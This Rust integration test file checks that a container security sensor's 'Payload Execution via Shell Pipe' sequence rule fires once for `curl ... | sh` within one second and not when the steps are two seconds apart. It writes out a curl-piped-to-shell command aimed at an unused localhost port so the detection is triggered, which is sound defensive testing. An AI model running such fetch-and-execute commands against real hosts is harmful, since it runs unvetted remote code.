//! Issue #13 end to end: a Defend-for-Containers sequence rule ("Payload
//! Execution via Shell Pipe", `curl ... | sh` from one parent within 1 s)
//! fires live, exactly once, with both steps as building blocks, for a real
//! chain run in a container cgroup (containerd CRI shape); the same steps 2 s
//! apart give nothing.
//!
//! Every request targets 127.0.0.1:4444, where nothing listens.

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::Value;

use tests::cgroup::{cri_container, move_into, Cgroups};
use tests::{args_of, get, marker, read_lines, skip_or_fail, start_or_skip, wait_line};

const RULE_ID: &str = "a750bbcc-863f-41ef-9924-fd8224e23694";

fn d4c_rules() -> String {
    Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../shared/rules/elastic/cloud_defend"
    ))
    .display()
    .to_string()
}

/// Runs `script` with bash inside a fresh CRI container cgroup: bash waits
/// until it has been moved, then runs the chain. Returns the container id
/// and the cgroups, to keep until the sensor has seen the chain.
fn run_in_container(script: &str) -> Option<(String, Cgroups)> {
    let Some((cg, dir, id, _uid)) = cri_container() else {
        skip_or_fail("no cgroup2 hierarchy to create a container cgroup in");
        return None;
    };
    let mut child = Command::new("bash")
        .args(["-c", &format!("read -r go; {script}; true")])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("bash");
    move_into(&dir, child.id()).expect("moving bash into the container cgroup");
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().expect("stdin");
        writeln!(stdin, "go").expect("go");
    }
    child.wait().expect("bash ran");
    Some((id, cg))
}

fn group_alerts<'a>(alerts: &'a [Value], m: &str) -> Vec<(&'a Value, Vec<&'a Value>)> {
    let shells = alerts.iter().filter(|a| {
        get(a, "kibana.alert.rule.rule_id") == RULE_ID
            && get(a, "kibana.alert.group.id").is_string()
            && get(a, "kibana.alert.building_block_type").is_null()
    });
    shells
        .map(|s| {
            let g = get(s, "kibana.alert.group.id");
            let blocks: Vec<&Value> = alerts
                .iter()
                .filter(|a| get(a, "kibana.alert.group.id") == g)
                .filter(|a| get(a, "kibana.alert.building_block_type") == "default")
                .collect();
            (s, blocks)
        })
        .filter(|(_, blocks)| {
            blocks
                .iter()
                .any(|b| args_of(b).iter().any(|a| a.contains(m)))
        })
        .collect()
}

#[test]
fn payload_piped_to_shell_fires_once_with_its_steps() {
    let rules = d4c_rules();
    let Some(mut sensor) = start_or_skip(&["--rules", &rules]) else {
        return;
    };
    // In `curl | sh` bash forks both sides at once and either may exec
    // first; when sh comes first the rule (step order) rightly does not
    // fire, live or in Elasticsearch. The sh side waits for curl to have
    // started (`exec sh`: the subshell, bash's child, becomes sh).
    let alerts_path = sensor.alerts_path();
    let m = marker("seqpipe");
    let Some((cid, _cgroups)) = run_in_container(&format!(
        "curl -s -m 1 http://127.0.0.1:4444/{m} | (sleep 0.2; exec sh)"
    )) else {
        return;
    };
    let found = wait_line(&alerts_path, Duration::from_secs(15), |a| {
        get(a, "kibana.alert.rule.rule_id") == RULE_ID && args_of(a).iter().any(|x| x.contains(&m))
    });
    let summary = sensor.stop().expect("sensor stops");
    if found.is_err() {
        let chain: Vec<String> = read_lines(&sensor.events_path())
            .iter()
            .filter(|e| args_of(e).iter().any(|x| x.contains(&m)) || get(e, "process.name") == "sh")
            .map(|e| {
                format!(
                    "{} {} {} {:?} parent={} container={}",
                    get(e, "@timestamp"),
                    get(e, "event.action"),
                    get(e, "process.executable"),
                    args_of(e),
                    get(e, "process.parent.entity_id"),
                    get(e, "container.id")
                )
            })
            .collect();
        panic!("no sequence alert for {m}: {summary}\n{}", chain.join("\n"));
    }
    let alerts = read_lines(&alerts_path);
    let groups = group_alerts(&alerts, &m);
    assert_eq!(groups.len(), 1, "{groups:#?}");
    let (shell, blocks) = &groups[0];
    assert_eq!(get(shell, "container.id"), cid.as_str());
    assert_eq!(blocks.len(), 2, "{blocks:#?}");
    assert_eq!(get(blocks[0], "process.name"), "curl");
    assert_eq!(get(blocks[0], "kibana.alert.group.index"), 0);
    assert_eq!(get(blocks[1], "process.name"), "sh");
    assert_eq!(get(blocks[1], "kibana.alert.group.index"), 1);
    assert_eq!(
        get(blocks[0], "process.parent.entity_id"),
        get(blocks[1], "process.parent.entity_id")
    );
    assert!(
        get(&summary, "sequences.completed").as_u64() >= Some(1),
        "{summary}"
    );
    assert_eq!(get(&summary, "sequences.evicted"), 0, "{summary}");
}

#[test]
fn the_same_steps_past_maxspan_give_nothing() {
    let rules = d4c_rules();
    let Some(mut sensor) = start_or_skip(&["--rules", &rules]) else {
        return;
    };
    let m = marker("seqslow");
    let Some((_cid, _cgroups)) = run_in_container(&format!(
        "curl -s -m 1 http://127.0.0.1:4444/{m}; sleep 2; sh -c true"
    )) else {
        return;
    };
    // The curl exec reached the events: the chain was seen.
    let seen = sensor.wait_event(Duration::from_secs(15), |e| {
        args_of(e).iter().any(|x| x.contains(&m))
    });
    std::thread::sleep(Duration::from_millis(1500));
    let summary = sensor.stop().expect("sensor stops");
    assert!(seen.is_ok(), "the curl exec was not seen");
    let alerts = read_lines(&sensor.alerts_path());
    assert!(group_alerts(&alerts, &m).is_empty(), "{alerts:#?}");
    assert!(
        get(&summary, "sequences.rejected_maxspan").as_u64() >= Some(1)
            || get(&summary, "sequences.expired").as_u64() >= Some(1),
        "{summary}"
    );
}
